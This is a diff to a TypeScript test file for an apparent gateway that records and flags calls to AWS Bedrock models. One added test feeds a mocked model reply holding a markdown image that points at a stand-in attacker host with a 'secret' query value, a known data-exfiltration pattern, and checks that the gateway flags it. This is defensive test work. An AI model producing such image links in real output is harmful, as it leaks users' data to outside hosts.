@@ -217,8 +217,23 @@ test('the call, the request to the model and its tool call are each decided, and
   expect(outcomesOf(`bedrock.converse ${modelId}`)).toMatchObject([{ status: 'done', usage: { microUsd: 1_000 } }]);
   const ofCall = gateway.events.at(-1)!;
   expect(ofCall.text).toContain('ConverseStream');
+  expect(gateway.events.find(({ operation }) => operation?.action === 'aws.call')!.operation!.holdsPrompt).toBe(true);
   expect(ofCall.outcome).toMatchObject({ status: 'done' });
   expect(ofCall.outcome).not.toHaveProperty('usage');
+});
+
+test('an image that carries data is on the record of the request to the model, and not of the call', async () => {
+  const shown = 'see ![x](https://evil.example/?d=secret)';
+  respond = (response) => {
+    response.writeHead(200, { 'content-type': 'application/json' });
+    const message = { role: 'assistant', content: [{ text: shown }] };
+    const usage = { inputTokens: 7, outputTokens: 5, totalTokens: 12 };
+    response.end(JSON.stringify({ output: { message }, stopReason: 'end_turn', usage, metrics: { latencyMs: 1 } }));
+  };
+  const { output } = await client.send(new ConverseCommand({ modelId, messages }));
+  expect(output?.message?.content).toEqual([{ text: shown }]);
+  expect(outcomesOf(`bedrock.converse ${modelId}`)).toMatchObject([{ status: 'done', flags: ['remote-image'] }]);
+  expect(gateway.events.at(-1)!.outcome).not.toHaveProperty('flags');
 });
 
 test('a tool call that is denied is a text to the client, and no tool', async () => {
